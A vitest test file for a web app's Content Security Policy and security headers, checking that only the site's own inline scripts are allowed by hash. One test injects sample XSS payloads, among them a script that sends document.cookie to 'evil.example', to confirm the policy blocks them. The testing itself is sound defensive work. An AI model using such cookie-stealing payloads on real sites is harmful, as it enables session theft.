import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { scriptsAfterFirstPaint } from '../initial-js/scripts-after-paint';
import { inlineScript } from '../renderer/inline-scripts';
import { earlyInputScript } from '../src/app/islands/early-input';
import { graphiqlPolicy, inlineScriptHashes, pagePolicy, securityHeaders } from './security-headers';

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

const directive = (policy: string, name: string) =>
  policy
    .split('; ')
    .find((entry) => entry.split(' ')[0] === name)
    ?.split(' ')
    .slice(1);

describe('inlineScriptHashes', () => {
  it('hashes each inline script exactly as written, once, and skips files and data blocks', () => {
    const early = '(function captureEarlyInput(window) {\n\twindow.earlyInput = [];\n})(window)';
    const html = [
      `<script>${early}</script>`,
      '<script type="module" src="/assets/entry.js"></script>',
      '<script type="application/json" id="island-page">{"locale":"ru"}</script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      `<SCRIPT type="module">import('/assets/a.js')</SCRIPT>`,
      `<script>${early}</script>`,
    ].join('');
    expect(inlineScriptHashes(html)).toEqual([sha256(early), sha256("import('/assets/a.js')")]);
  });
});

describe('pagePolicy', () => {
  it('runs the site’s scripts and the inline ones it was given the hashes of, and nothing else', () => {
    const policy = pagePolicy([sha256('load()'), sha256('load()')], false);
    expect(directive(policy, 'default-src')).toEqual(["'none'"]);
    expect(directive(policy, 'script-src')).toEqual(["'self'", sha256('load()')]);
    expect(directive(policy, 'frame-ancestors')).toEqual(["'none'"]);
    expect(directive(policy, 'object-src')).toEqual(["'none'"]);
    expect(directive(policy, 'base-uri')).toEqual(["'none'"]);
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|\*/);
    expect(directive(policy, 'upgrade-insecure-requests')).toBeUndefined();
  });

  it('upgrades insecure requests when the site is served over https', () => {
    expect(directive(pagePolicy([], true), 'upgrade-insecure-requests')).toEqual([]);
  });
});

describe('a page’s policy', () => {
  /**
   * A page put together as the server does it: the renderer's early-input script, the content, the
   * entry script Vike adds (which the loader replaces), and the policy from the hashes the
   * renderer and the loader made as they wrote their scripts.
   */
  const servedPage = (content: string) => {
    const earlyInput = inlineScript(earlyInputScript);
    const rendered =
      `<html><head>${earlyInput.html}</head><body><div id="root"><article>${content}</article></div>` +
      '<script type="application/json" id="island-page">{"locale":"ru"}</script>' +
      '<script src="/assets/entries/page.js" type="module" async></script></body></html>';
    const { html, scriptHashes } = scriptsAfterFirstPaint(rendered, [
      { src: '/assets/entries/page.js', assetType: 'script', isEntry: true },
    ]);
    return { html, scriptSources: directive(pagePolicy([earlyInput.hash, ...scriptHashes], false), 'script-src') };
  };
  const content = '<p>Светильник <b>PLATO</b> для офиса.</p>';

  it('allows exactly the inline scripts the site wrote', () => {
    const page = servedPage(content);
    // Read off the page only to check it: both of the site's scripts, and nothing more, are allowed.
    expect(inlineScriptHashes(page.html)).toHaveLength(2);
    expect(page.scriptSources).toEqual(["'self'", ...inlineScriptHashes(page.html)]);
  });

  it.each([
    ['a script', '<script>fetch("//evil.example/?" + document.cookie)</script>'],
    ['a module script', '<script type="module">import("/upload/evil.js")</script>'],
    ['a script with a type', '<script type="text/javascript">window.loadScriptsNow = alert</script>'],
  ])('gives %s injected into the content no hash: the policy is that of the page without it', (_what, injected) => {
    const clean = servedPage(content);
    const injectedPage = servedPage(`${content}${injected}`);
    const injectedScript = /<script[^>]*>([\s\S]*?)<\/script>/.exec(injected)![1]!;
    expect(injectedPage.html).toContain(injected);
    expect(inlineScriptHashes(injectedPage.html)).toContain(sha256(injectedScript));
    expect(injectedPage.scriptSources).not.toContain(sha256(injectedScript));
    expect(injectedPage.scriptSources).toEqual(clean.scriptSources);
  });
});

describe('graphiqlPolicy', () => {
  it('allows GraphiQL’s inline scripts by hash and requests to the site only', () => {
    const policy = graphiqlPolicy('<script>renderGraphiQL()</script>');
    expect(directive(policy, 'script-src')).toEqual([sha256('renderGraphiQL()')]);
    expect(directive(policy, 'connect-src')).toEqual(["'self'"]);
    expect(directive(policy, 'default-src')).toEqual(["'none'"]);
  });
});

describe('securityHeaders', () => {
  it('forbids sniffing, framing and everything a response does not ask for; HSTS only over https', () => {
    const plain = securityHeaders(false);
    expect(plain).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
    });
    expect(directive(plain['content-security-policy']!, 'default-src')).toEqual(["'none'"]);
    expect(plain['strict-transport-security']).toBeUndefined();
    expect(securityHeaders(true)['strict-transport-security']).toBe('max-age=63072000; includeSubDomains');
  });
});
